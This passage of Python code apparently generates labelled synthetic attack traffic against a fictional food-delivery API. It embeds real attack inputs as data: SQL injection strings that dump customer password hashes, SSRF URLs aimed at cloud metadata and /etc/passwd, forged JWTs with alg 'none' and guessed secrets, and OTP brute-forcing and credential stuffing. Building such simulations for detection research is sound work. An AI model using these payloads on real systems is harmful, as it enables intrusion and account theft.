        yield from R(d, 'POST', f'/v2/carts/{x.body["id"]}/coupon', js=dict(code='VIP90X'), ep='F04'); yield 9; yield from R(d, 'POST', '/v2/orders', js=dict(cart_id=x.body['id'], address_id=u['ads'][0], payment='cash'), ep='F04')
    S.spawn(S.local(6, 15), f04(custs[72], 0))
    def f05(u, g, js): B.place(u['dev'][0]); yield from sign(u['dev'][0]); yield from R(u['dev'][0], 'GET', '/v2/me'); yield 40; yield from g('PATCH', '/v2/me', js=js); yield 30; yield from B.buy(u['dev'][0])
    S.spawn(S.local(5, 13), f05(custs[73], mine(custs[73], 'F05'), dict(name=custs[73]['name'], wallet_balance=80))); S.spawn(S.local(10, 19), f05(custs[73], mine(custs[73], 'F05'), dict(name=custs[73]['name'], phone=custs[73]['phone'], loyalty_tier='platinum', wallet_balance=65.5)))
    ips = lambda n, six=.15: [f'2a02:{r.randint(0x1000, 0xffff):x}:{r.randint(1, 0xffff):x}::{r.randint(1, 0xffff):x}' if r.random() < six else f'{r.choice([37, 77, 89, 103, 176, 190, 201])}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(2, 250)}' for _ in range(n)]
    appua = lambda: B.ua(r.choice(B.models), '4.8.2')
    def f07():
        good = r.sample(custs[90:180], 6)
        users = [(u['email'], u['pw']) for u in good] + [(r.choice(custs)['email'], r.choice(WORDS) + str(r.randint(10, 99))) for _ in range(70)] + [(f'{r.choice(FIRST)}{r.choice(LAST)}{r.randint(1, 99)}@{r.choice(["mail", "sapo", "hot"])}.example', r.choice(WORDS) + str(r.randint(1, 999))) for _ in range(290)]
        r.shuffle(users); pool = [Client(ip, appua(), headers={'X-Device-Id': r.randbytes(6).hex()}, ep='F07') for ip in ips(150)]; q = pool * 2 + r.sample(pool, 66)
        for (m, p), c in zip(users, q):
            yield r.expovariate(1 / 295); x = S.call(c, 'POST', '/token', form=dict(grant_type='password', username=m, password=p), ident=f'login:{m}')
            if x.st == 200:
                for u in ('/v2/me', '/v2/me/payment-methods'): yield r.uniform(1, 5); S.call(c, 'GET', u, h={'Authorization': 'Bearer ' + x.body['access_token']})
    S.spawn(S.local(3, 6), f07())
    def f08():
        app.dash[list(app.dash)[-4]]['pw'] = 'Restaurante2026!'; pool = [Client(ip, r.choice(WEB[:3]), headers={'Origin': 'https://parceiros.dine.example'}, ep='F08') for ip in ips(5, 0)]
        for pw in ('Dine2026!', 'Restaurante2026!', 'Bemvindo123'):
            for m in r.sample(list(app.dash), len(app.dash)):
                yield r.uniform(1100, 2800); c = r.choice(pool); x = S.call(c, 'POST', '/dashboard/login', form=dict(email=m, password=pw), ident=f'dash:{m}')
                if x.st == 200:
                    for p in ('/menu', '/payouts', '/reports/sales'): yield 12; S.call(c, 'GET', '/dashboard/api' + p, h={'Cookie': x.h['Set-Cookie'].split(';')[0]})
    S.spawn(S.local(6, 5), f08())
    def f09():
        c = Client('91.132.136.20', WEB[2], ep='F09', headers=B.webh)
        for _ in range(210): S.call(c, 'GET', '/v2/auth/email-available?email=' + quote(r.choice(custs)['email'] if r.random() < .12 else f'{r.choice(FIRST)}.{r.choice(LAST)}@{r.choice(["mail", "sapo", "uni"])}.example')); yield r.lognormvariate(3.3, .5)
    S.spawn(S.local(4, 14), f09())
    def f10():
        v = B.couriers[7]['u']
        for n in range(36):
            c = Client(f'2a0e:97c0:3e:{n // 9:x}::{r.randint(1, 65535):x}', 'DineCourier/2.9.1 (Android 13; SM-A546B) okhttp/4.12.0', ep='F10', ident=f'phone:{v["phone"]}')
            if n % 2 == 0: S.call(c, 'POST', '/v2/courier/auth/code', js=dict(phone=v['phone']))
            for k in range(r.randint(4, 6)):
                yield r.uniform(6, 22); x = S.call(c, 'POST', '/v2/courier/auth/verify', js=dict(phone=v['phone'], code=app.otp[v['phone']][0] if n == 35 and k == 3 else f'{r.randint(0, 9999):04}'))
                if x.st == 200:
                    c.h['Authorization'] = 'Bearer ' + x.body['token']
                    for m, p, js in (('GET', 'me', None), ('GET', 'earnings?week=2026-W20', None), ('PUT', 'payout-account', dict(iban='LT601010012345678901', holder=v['name'])), ('POST', 'payouts', dict(amount=int(v['balance'])))): yield 9; S.call(c, m, '/v2/courier/' + p, js=js)
                    return
    S.spawn(S.local(8, 3.7), f10())
    def recruit(i, ip, ep, street=None, ref=None, quick=False, city='lisboa', mail=None):
        """a new account of an attacker"""; mail = mail or f'{r.choice(FIRST)}{r.choice(LAST)}{r.randint(60, 99)}{i}@mail.example'; c = Client(ip, appua(), headers={'X-Device-Id': r.randbytes(6).hex()})
        if not quick: S.call(c, 'GET', '/v2/auth/email-available?email=' + quote(mail), ep=ep); yield 20
        for _ in range(9):
            if mail in app.mail: break
            S.call(c, 'POST', '/v2/customers', js=dict(email=mail, password='Xx' + r.randbytes(5).hex(), name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(), phone=f'+3519{r.randint(10000000, 69999999)}', city=city, referral_code=ref), ep=ep); yield 2 if mail in app.mail else 240
        u = app.mail.get(mail)
        if not u: return
        c.ident = f'cust:{u["id"]}'; u.update(home=ip, mob=[ip], work=ip, fav=r.sample([x for x in slugs if app.rest[x]['city'] == city], 3), v5at=S.end); u['dev'] = [dict(B.device(u), cl=c, v5=False)]; c.ep = ep; yield from sign(u['dev'][0], wrong=0); c.ep = None
        if street: yield from R(u['dev'][0], 'POST', '/v2/me/addresses', js=dict(label='Casa', street=street, city=city)); yield from R(u['dev'][0], 'POST', '/v2/me/payment-methods', js=dict(provider_token='tok_' + r.randbytes(8).hex()))
        return u
    def f11(i, ip):
        u = yield from recruit(i, ip, None); g = mine(u, 'F11')
        for d in range(4, 10):
            yield max(1, S.local(d, r.gauss(19, 2)) - S.now); yield from sign(u['dev'][0]); yield from R(u['dev'][0], 'GET', '/v2/restaurants?city=lisboa')
            for _ in range(r.randint(6, 10)):
                yield r.lognormvariate(4, .8); open_ = [k for k, v in app.gift.items() if v]; k = r.choice(open_) if open_ and r.random() < .03 else 'D7' + app.code(5); x = yield from g('GET', f'/v2/gift-cards/{k}')
                if x.st == 200: yield 8; yield from g('POST', f'/v2/gift-cards/{k}/redeem')
            if r.random() < .5: yield from B.read(u['dev'][0], 1)
    for i, ip in enumerate(ips(5)): S.spawn(S.local(2 + i % 2, r.uniform(12, 21)), f11(i, ip))
    def f12(i, ip):
        u = yield from recruit(20 + i, ip, None, city=r.choice(list(CITIES))); g = mine(u, 'F12')
        for k, d in enumerate((6, 7, 8)):
            yield max(1, S.local(d, r.gauss(19.5, 1.5)) - S.now); yield from sign(u['dev'][0]); yield from R(u['dev'][0], 'GET', f'/v2/restaurants?city={u["city"]}'); share = slugs[(i + k * 5) % 16::16] + r.sample(slugs, 4)
            for sl in share:
                yield r.lognormvariate(3.2, .7); yield from g('GET', f'/v2/restaurants/{sl}/menu'); yield r.uniform(1, 6)
                if r.random() < .75: yield from g('GET', f'/v2/restaurants/{sl}/reviews')
    for i, ip in enumerate(ips(16)): S.spawn(S.local(r.choice([3, 4, 5]), r.uniform(10, 22)), f12(i, ip))
    def f13(d, day):
        yield from sign(d, wrong=0); x = yield from R(d, 'GET', f'/admin/customers?page={2 + day % 9}', ep='F13')
        for u in x.body['items'][:18]: yield r.uniform(300, 1100); yield from R(d, 'GET', f'/admin/customers/{u["id"]}', ep='F13')
    for k in range(8, 13):
        if (k + 4) % 7 < 5: S.spawn(S.local(k, 13.6), f13(B.agents[2], k))
    def f14(u):
        c = Client('185.195.71.20', 'Dine/4.8.2 (Android 13; SM-A546B) okhttp/4.12.0', f'cust:{u["id"]}', ep='F14')
        for k, d in enumerate((7, 9, 10)):
            yield max(1, S.local(d, 19) - S.now); dev = u['dev'][0]
            if dev['exp'] - S.now < 2000: yield from sign(dev, True)
            S.spawn(S.now + 40, B.session(u, dev, .6))
            for m, p in (('GET', 'me'), ('GET', 'me/payment-methods'), ('GET', 'orders'), ('GET', 'me/addresses'), ('POST', 'gift-cards')):
                yield r.uniform(30, 200); c.h['Authorization'] = dev['cl'].h.get('Authorization'); S.call(c, m, '/v2/' + p, js=dict(amount=50, recipient='k.m@mail.example', payment_method_id=u['pms'][0]) if m == 'POST' else None)
    S.spawn(S.local(7, 18), f14(custs[80]))
    def f15():
        c = Client('103.86.44.9', 'python-requests/2.31.0', ep='F15', headers={'X-API-Key': next(k for k, v in app.keys.items() if v.get('rest') == active[13])})
        for k in range(46): S.call(c, 'GET', f'/pos/v1/orders?since={max(0, int(S.now - r.choice([0, 1, 2, 5, 20, 60]) * DAY))}'); yield r.lognormvariate(7.2, 1)
    S.spawn(S.local(7, 9), f15())
    def f16():
        c = Client('45.9.148.31', WEB[2], ep='F16'); now = lambda **k: dict(dict(sub='12', scopes=['admin', 'support'], iat=int(S.now), exp=int(S.now) + 3600, jti=r.randbytes(6).hex()), **k)
        forged = [jwt(now(), alg='none', sig=''), jwt(now(), alg='None', sig=''), jwt(now(sub='1'), sig=custs[3]['dev'][0]['cl'].h.get('Authorization', 'x.y.z')[-43:])] + [jwt(now(sub=r.choice(['1', '12'])), w) for w in ('', 'secret', 'changeme', 'dine', 'dine2020', 'dine-dev', 'your-256-bit-secret', 'fastapi', '09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7', 'dine-prod', 'dine-prod-2020')] + [jwt(now(sub=x), SECRET) for x in ('1', '2', '10')]
        for t in forged: S.call(c, 'GET', '/v2/me', h={'Authorization': 'Bearer ' + t}); yield r.lognormvariate(3.5, 1)
        t = jwt(now(exp=int(S.now) + 90 * DAY), SECRET)
        for p in ['/admin/payouts?page=1'] + [f'/admin/customers?page={k}&size=100' for k in (1, 2, 3)] + [f'/admin/customers/{u["id"]}' for u in custs[5:14]]: yield r.uniform(10, 90); S.call(c, 'GET', p, h={'Authorization': 'Bearer ' + t})
    S.spawn(S.local(9, 22), f16())
    def f17():
        u = app.dash[list(app.dash)[-6]]; d = dict(u=u, cl=Client('151.80.33.12', WEB[0], f'dash:{u["email"]}', ep='F17', headers={'Origin': 'https://parceiros.dine.example'}), exp=0); yield from B.dsign(d, 0)
        for x in ('https://webhook.site.example/4c1f', 'http://localhost:8000/', 'http://127.0.0.1:8500/v1/kv/?recurse', 'http://10.20.4.9:8500/ui', 'http://10.20.0.1/', 'http://[::1]:6379/', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/dine-api'):
            yield r.uniform(20, 150); y = S.call(d['cl'], 'POST', '/dashboard/api/menu/import', js=dict(url=x))
            if y.st == 202: yield 5; S.call(d['cl'], 'GET', f'/dashboard/api/menu/imports/{y.body["import_id"]}')
    S.spawn(S.local(10, 17), f17())
    def f18():
        c = Client('91.199.118.77', WEB[1], ep='F18', headers=B.webh)
        for x in ["piz'", "piz''", "piz' or '1'='1", "piz' and '1'='2", "piz' order by 5--", "piz' order by 6--", "x' union select null,null,null,null,null--", "x';select pg_sleep(5)--'", "x' union/**/select version(),current_database(),current_schema(),0,1--", "x' UNION SELECT table_name,'','',0,0 FROM information_schema.tables--"] + [f"x' UNION SELECT email,phone,password_hash,0,id FROM customers ORDER BY id LIMIT 20 OFFSET {k * 20} --".replace(' --', '--') for k in range(7)]:
            S.call(c, 'GET', '/v2/search?q=' + quote(x) + '&city=porto'); yield r.lognormvariate(4.2, .9)
    S.spawn(S.local(8, 16), f18())
    def f19(ip, w):
        c = Client(ip, w, ep='F19')
        for k in range(15): S.call(c, 'GET', f'/v2/restaurants/nearby?lat=38.72&lng=-9.14&radius_km={r.choice([900, 2000, 5000, 20000])}'); yield r.uniform(15, 60)
    for ip in ('79.124.62.8', '79.124.62.19'): S.spawn(S.local(12, 20.2), f19(ip, WEB[0]))
    def f20(u): d = u['dev'][0]; B.place(d); yield from sign(d); yield from B.read(d, 1); yield from B.buy(d, pay='card', unpaid=1, ep='F20')
    for d in (4, 5, 7, 9, 11, 12): S.spawn(S.local(d, r.gauss(20, .6)), f20(custs[81])); S.spawn(S.local(d, 13), B.session(custs[81], custs[81]['dev'][0], .7, pay='card'))
    def f21(u, first):
        d, c = u['dev'][0], Client('95.179.201.4', 'curl/8.5.0', ep='F21')
        def forge(oid):
            b = dict(id='evt_' + r.randbytes(8).hex(), type='payment_intent.succeeded', data=dict(payment_intent='pi_' + r.randbytes(9).hex(), amount=2000, currency='eur', metadata=dict(order_id=oid)))
            for h in ([{'Paystream-Signature': 'a' * 64}, {'Paystream-Signature': ''}] if first else []) + [{}]: yield r.uniform(10, 40); S.call(c, 'POST', '/webhooks/payments', js=b, h=h)
        B.place(d); yield from sign(d); yield from B.buy(d, pay='card', unpaid=1, between=forge, ep='F21')
    for n, d in enumerate((9, 10, 12, 13)): S.spawn(S.local(d, 20 + r.random()), f21(custs[82], n == 0))
    def f22(i, ip, street):
        u = yield from recruit(60 + i, ip, None, street, city='porto'); d = u['dev'][0]
        for k in sorted(r.sample(range(4, 13), 3)):
            yield max(1, S.local(k, r.gauss(19.5, 1)) - S.now); yield from sign(d); yield from B.read(d, 2); o = yield from B.buy(d, pay='card', follow=False)
            if not o: continue
            yield r.uniform(80, 200) * MIN; x = yield from R(d, 'POST', f'/v2/orders/{o}/refund-request', js=dict(reason='missing_items', comment=r.choice(['faltava o prato principal', 'missing main dish', ''])), ep='F22'); yield 20; yield from R(d, 'GET', f'/v2/orders/{o}', ep='F22')
    home, street = ['87.196.72.14', '87.196.72.14', '87.196.80.201'], f'Rua do Almada {r.randint(20, 200)}, 2º Dto'
    for i in range(6): S.spawn(S.local(r.choice([1, 2, 3]), r.uniform(11, 21)), f22(i, home[i % 3], street))
    def f23(u):
        pool = ips(7, 0)
        for i in range(40):
            v = yield from recruit(i, r.choice(pool), 'F23', ref=u['ref'], quick=True, city=u['city'], mail=f'{u["email"].split("@")[0]}+{r.randint(100, 999)}{i}@mail.example')
            if v: yield r.uniform(1, 4); yield from mine(v, 'F23')('POST', '/v2/referrals/redeem', js=dict(code=u['ref']))
            yield r.lognormvariate(7.6, 1)
        yield from B.session(u, u['dev'][0], 1)
    S.spawn(S.local(10, 10), f23(custs[83]))
    def f24(d):
        c, cl = d['u'], d['cl']
        if S.now > d['exp']: yield from B.otp(d)
        if 'Authorization' not in cl.h: return
        S.call(cl, 'POST', '/v2/courier/shifts', js=dict(city=c['city'])); end, n, got = S.now + 40 * MIN, 0, []
        while S.now < end or got:
            n += 1
            if n % 4 == 1: S.call(cl, 'POST', '/v2/courier/location', js=dict(lat=CITIES[c['city']][0] + .01, lng=CITIES[c['city']][1], accuracy=12.0, ts=int(S.now), speed=0.0, battery=88))
            if len(got) < 4 and S.now < end:
                x = S.call(cl, 'GET', '/v2/courier/offers', ep='F24'); best = sorted([o for o in x.body if o['pay'] > 3.1] if x.st == 200 else [], key=lambda o: -o['pay'])
                if best:
                    yield r.uniform(.12, .3)
                    if S.call(cl, 'POST', f'/v2/courier/offers/{best[0]["id"]}/accept', ep='F24').st == 200: got.append([best[0]['id'], 'pickup', S.now + 700])
            for w in [w for w in got if w[2] < S.now]:
                y = S.call(cl, 'POST', f'/v2/courier/deliveries/{w[0]}/{w[1]}'); got.remove(w)
                if w[1] == 'pickup' and y.st == 200: got.append([w[0], 'dropoff', S.now + 500])
            yield r.uniform(6, 12)
        c['job'], c['shift'] = None, None
    for d in (8, 9, 12): S.spawn(S.local(d, 19.9), f24(B.couriers[5]))
    def f25():
        c = Client('77.247.181.163', 'curl/8.4.0', ep='F25')
        for k in range(9): S.call(c, 'GET', '/internal/metrics' if k in (0, 5) else f'/internal/settlement?date=2026-05-{15 + k}'); yield r.lognormvariate(8, 1.2)
    S.spawn(S.local(11, 8), f25())
    def f26():
        c = Client('94.102.49.190', 'DineAndroid/2.3 okhttp/3.12.1', ep='F26')
        for i in range(10205, 10355): S.call(c, 'GET', f'/v1/users/{i}'); yield r.lognormvariate(4.5, .7)
    S.spawn(S.local(13, 9), f26())
    def f27():
        u = custs[84]; c = Client('192.36.61.44', 'python-requests/2.31.0', f'cust:{u["id"]}', ep='F27'); x = S.call(c, 'POST', '/token', form=dict(grant_type='password', username=u['email'], password=u['pw'])); c.h['Authorization'] = 'Bearer ' + x.body['access_token']
        bad = [b'{', b'[]', b'null', b'{"restaurant":[]}', b'{"code":{"$gt":""}}', b'A' * 2000, b'{"cart_id":1e999}', b'\x00\xff', b'{"stars":"five","email":"@"}', b'{"item_id":-1,"quantity":99999999999}', b'<a/>', b'{"lat":"x","lng":null}']
        for _ in range(280):
            S.call(c, r.choice(['POST', 'POST', 'POST', 'PUT', 'PATCH', 'DELETE']), r.choice(['/v2/carts', '/v2/orders', '/v2/orders/%00/pay', '/v2/orders/-1/rating', '/v2/me', '/v2/customers', '/token', '/v2/gift-cards', '/v2/referrals/redeem', '/v2/courier/location', '/v2/auth/forgot-password', '/webhooks/payments', '/v2/me/addresses', '/v2/orders/1e3/messages']), body=r.choice(bad), ct=r.choice(['application/json', 'application/json', 'text/plain']))
            yield r.uniform(.2, 1.5)
    S.spawn(S.local(4, 4), f27())
    def f28(ip, words):
        c = Client(ip, WEB[0], ep='F28')
        for w in words: S.call(c, 'GET', w); yield r.lognormvariate(7.2, .5)
    ws = [f'/{a}{b}' for a in ('', 'v2/', 'v1/', 'v3/', 'admin/', 'internal/', 'api/', 'dashboard/') for b in ('users', 'debug', 'config', 'docs', 'openapi.json', 'swagger', 'export', 'backup', 'status', 'test', 'graphql', 'console', '.env', 'logs', 'tokens', 'keys', 'couriers', 'drivers', 'payments', 'invoices', 'reports', 'jobs', 'queue', 'beta', 'old', 'staging', 'dump')]
    r.shuffle(ws)
    for i, ip in enumerate(('178.32.140.6', '51.15.88.230')): S.spawn(S.local(5, 7 + i), f28(ip, ws[i::2][:145]))
    real = S.call
    def call(cl, m, url, **k):
        if m == 'GET' and S.now > app.growth_from and '/reviews' in url and url.startswith('/v2/restaurants/') and not (cl.ep or k.get('ep')): k['ep'] = 'F06'
        return real(cl, m, url, **k)
    S.call = call
